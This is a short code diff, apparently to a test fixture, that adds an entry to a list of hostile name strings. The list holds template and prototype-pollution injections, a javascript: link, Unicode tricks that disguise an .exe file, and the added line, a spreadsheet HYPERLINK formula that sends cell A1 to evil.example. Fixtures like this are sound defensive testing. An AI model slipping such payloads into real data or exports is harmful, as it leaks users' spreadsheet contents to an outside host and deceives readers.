@@ -37,6 +37,7 @@ export const HOSTILE_NAMES: readonly (string | null)[] = [
   null,
   '${process.env.HOME} {{constructor.constructor}} %s %n [link](javascript:alert(1))',
   'Evil\u202Egnp.exe\u200B Ltd\nSecond line',
+  '=HYPERLINK("https://evil.example/?leak="&A1,"Click for a discount")',
 ];
 
 export const EDITIONS: readonly (readonly [string, number])[] = [
